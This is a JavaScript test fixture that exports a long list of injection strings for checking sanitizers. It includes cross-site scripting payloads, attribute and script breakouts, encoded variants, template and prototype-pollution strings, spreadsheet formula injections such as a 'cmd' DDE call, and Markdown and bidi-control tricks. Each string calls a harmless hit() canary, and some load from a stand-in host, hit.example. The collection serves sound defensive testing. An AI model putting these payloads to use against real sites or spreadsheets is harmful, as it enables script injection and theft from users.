// Strings that try to become markup, script, a link or a formula; each would call hit() if it came to run. What they have in common
// with real ones is their form. Kinds: tags that run, handlers, addresses, styles, broken and nested markup, encodings, templates,
// breaking out of attributes and scripts, prototype and object names, formulas, Markdown, and marks that turn words around.
const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbeforeinput', 'onpointerenter', 'onwheel', 'onscrollend', 'onsecuritypolicyviolation'];
const TAGS = ['img', 'svg', 'body', 'input', 'details', 'video', 'audio', 'iframe', 'object', 'embed', 'marquee', 'math', 'isindex', 'custom-tag', 'button', 'select', 'textarea', 'form', 'a', 'style'];

export const INJECTIONS = [
  '<script>hit()</script>', '<ScRiPt>hit()</sCrIpT>', '<script src=https://hit.example/x.js></script>', '<script src="data:text/javascript,hit()"></script>',
  '<script type=module>hit()</script>', '<script>hit()', '<script/x>hit()</script>', '<script\n>hit()</script\n>', '<<script>hit()//<</script>', '<scr<script>ipt>hit()</scr</script>ipt>',
  '</script><script>hit()</script>', '</title><script>hit()</script>', '</style><script>hit()</script>', '</textarea><script>hit()</script>', '</noscript><script>hit()</script>', '--><script>hit()</script><!--',
  ']]><script>hit()</script>', '<![CDATA[<script>hit()</script>]]>', '<!--<img src=x onerror=hit()>-->', '<!--><img src=x onerror=hit()>', '<?xml version="1.0"?><script>hit()</script>', '<!doctype html><script>hit()</script>',
  ...HANDLERS.map((handler) => `<img src=x ${handler}="hit()">`),
  ...TAGS.map((tag) => `<${tag} src=x onload=hit() onerror=hit() onfocus=hit() ontoggle=hit() autofocus open tabindex=0>`),
  '<svg><script>hit()</script></svg>', '<svg/onload=hit()>', '<svg><animate onbegin=hit() attributeName=x dur=1s>', '<svg><set attributeName=onload to=hit()>', '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x">',
  '<svg><a href="javascript:hit()"><text>x</text></a></svg>', '<svg><foreignObject><iframe srcdoc="<script>hit()</script>"></iframe></foreignObject></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=hit()>', '<math href="javascript:hit()">x</math>',
  '<a href="javascript:hit()">x</a>', '<a href="JaVaScRiPt:hit()">x</a>', '<a href="java\tscript:hit()">x</a>', '<a href=" &#14; javascript:hit()">x</a>', '<a href="&#x6a;avascript:hit()">x</a>', '<a href="data:text/html,<script>hit()</script>">x</a>', '<a href="vbscript:hit()">x</a>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>', '<iframe src="javascript:parent.hit()"></iframe>', '<frameset onload=hit()>', '<object data="javascript:hit()">', '<embed src="data:image/svg+xml,<svg onload=hit()>">', '<form action="javascript:hit()"><button>x</button></form>', '<button formaction="javascript:hit()">x</button>',
  '<base href="https://hit.example/">', '<meta http-equiv="refresh" content="0;url=javascript:hit()">', '<link rel=stylesheet href="https://hit.example/x.css">', '<link rel=import href="data:text/html,<script>hit()</script>">', '<template><script>hit()</script></template>',
  '<style>@import "https://hit.example/x.css";</style>', '<style>*{background:url(javascript:hit())}</style>', '<div style="background:url(https://hit.example/x)">x</div>', '<div style="width:expression(hit())">x</div>', '<p style="position:fixed;inset:0;z-index:99">x</p>',
  '"><img src=x onerror=hit()>', "'><img src=x onerror=hit()>", '" onmouseover="hit()" x="', "' onfocus='hit()' autofocus='", '`><img src=x onerror=hit()>', '" autofocus onfocus=hit() "', '"/><svg onload=hit()>', '\\"><script>hit()</script>', '</p></div></section><script>hit()</script>',
  '&lt;script&gt;hit()&lt;/script&gt;', '&#60;script&#62;hit()&#60;/script&#62;', '&#x3c;img src=x onerror=hit()&#x3e;', '%3Cscript%3Ehit()%3C/script%3E', '\\u003cscript\\u003ehit()\\u003c/script\\u003e', '+ADw-script+AD4-hit()+ADw-/script+AD4-', '＜script＞hit()＜/script＞', '‹script›hit()‹/script›',
  '{{constructor.constructor("hit()")()}}', '${hit()}', '#{hit()}', '<%= hit() %>', '{% hit() %}', '[[${hit()}]]', 'javascript:hit()', "';hit();//", '";hit();//', '*/hit()/*', '\\";hit();//', '`-hit()-`', '1;hit()',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'null', 'undefined', '[object Object]', 'NaN', '{"__proto__":{"hit":1}}',
  '=HYPERLINK("https://hit.example","x")', '=cmd|"/c calc"!A1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', ';=1+1', '"=1+1', '=IMPORTXML("https://hit.example","//a")',
  '[x](javascript:hit())', '![x](https://hit.example/x.png)', '<https://hit.example>', '# x', '- x', '1. x', '```\nhit()\n```', '| a | b |\n|---|---|', '[x]: javascript:hit()', '~~x~~', '**x**', '<details open ontoggle=hit()>',
  '\u202ehit()\u202c', '\u2066<script>hit()</script>\u2069', '\u0000<script>hit()</script>', '<img\u0000 src=x onerror=hit()>', '<img/\u000csrc=x\u000conerror=hit()>', '\ufeff<script>hit()</script>', '<sc\u00adript>hit()</script>', '\ud83d<script>hit()</script>',
];
